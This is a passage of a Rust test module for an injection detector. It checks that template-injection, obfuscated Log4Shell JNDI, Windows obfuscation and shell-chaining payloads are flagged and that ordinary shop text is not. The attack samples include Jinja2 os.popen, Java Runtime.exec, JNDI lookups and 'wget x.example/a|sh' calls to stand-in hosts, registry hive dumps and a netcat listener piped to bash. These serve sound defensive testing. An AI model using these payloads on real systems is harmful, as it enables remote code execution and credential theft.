            "{{ cycler.__init__.__globals__.os.popen('uname').read() }}",
            "${''.getClass().forName('java.lang.Runtime')}",
            "{% for c in [].__class__.__base__.__subclasses__() %}",
            "<#assign x=\"freemarker.template.utility.Execute\"?new()>",
            "${jndi:rmi://h.example:1099/o}",
            "${${upper:j}ndi:dns://h.example/x}",
            "${${env:NOPE:-j}ndi${env:NOPE:-:}ldap://h.example/a}",
            "${${::-j}${::-n}${::-d}${::-i}:ldap://h.example/a}",
            "#set($r='')$r.class.forName('java.lang.Runtime')",
            "(#rt=@java.lang.Runtime@getRuntime()).exec('id')",
            "x.__class__.__mro__[1]",
            "a.getRuntime().exec('id')",
        ] {
            assert!(hit(&r, a).is_some(), "missed: {a}");
        }
        for b in [
            "Hello {{name}}, your order {{order_id}} shipped",
            "${price} * 2 for two",
            "Use #{hashtag} and {% raw %}",
            "Room 4*4 m, {{size}}",
            "jndi tutorial ${chapter}",
            "2 * 3 = 6 <% sale %>",
            "{{ 5 * x }}",
            "Java.lang tutorial; class names",
            "my__class__notes.txt",
        ] {
            assert_eq!(hit(&r, b), None, "false positive: {b}");
        }
    }

    #[test]
    fn windows_obfuscation_and_tools() {
        let r = Rules::new();
        for a in [
            "x & un^am^e",
            "x | c^m^d /c ver",
            "&(\"{1}{0}\" -f 'x','ie') 'y'",
            "x & reg save HKLM\\SYSTEM s.hiv",
            "x | findstr /si secret *.xml",
        ] {
            assert!(hit(&r, a).is_some(), "missed: {a}");
        }
        for b in [
            "2^10 = 1024",
            "x^2 + y^2",
            "Reg query about my order",
            "reg add-on",
            "Use {0} and {1} in templates -f flag",
        ] {
            assert_eq!(hit(&r, b), None, "false positive: {b}");
        }
    }

    #[test]
    fn phrase_lists_and_mugs_are_prose() {
        let r = Rules::new();
        for b in [
            "Sleep mask; sleep aid; sleep 8h",
            "nc state; sc state",
            "sudo make me a sandwich mug",
            "cat toy; dog toy",
            "time flies; time heals",
            "& more stories",
            "& other stories",
            "| size | colour |",
            "more to come; stay tuned",
            "\n\nMore than I expected",
            "\ncat food is great",
        ] {
            assert_eq!(hit(&r, b), None, "false positive: {b}");
        }
        for a in [
            "nc x; id",
            "sleep aid; uname -a",
            "time sh -c id",
            "nohup who",
            "sudo uname -a",
            "cat passwd; ls",
            "wget x.example/a|sh",
            "nc -lvp 4444 && bash",
            "time curl h.example",
            ";top -b",
            "| more notes.txt",
        ] {
            assert!(hit(&r, a).is_some(), "missed: {a}");
        }
    }
}
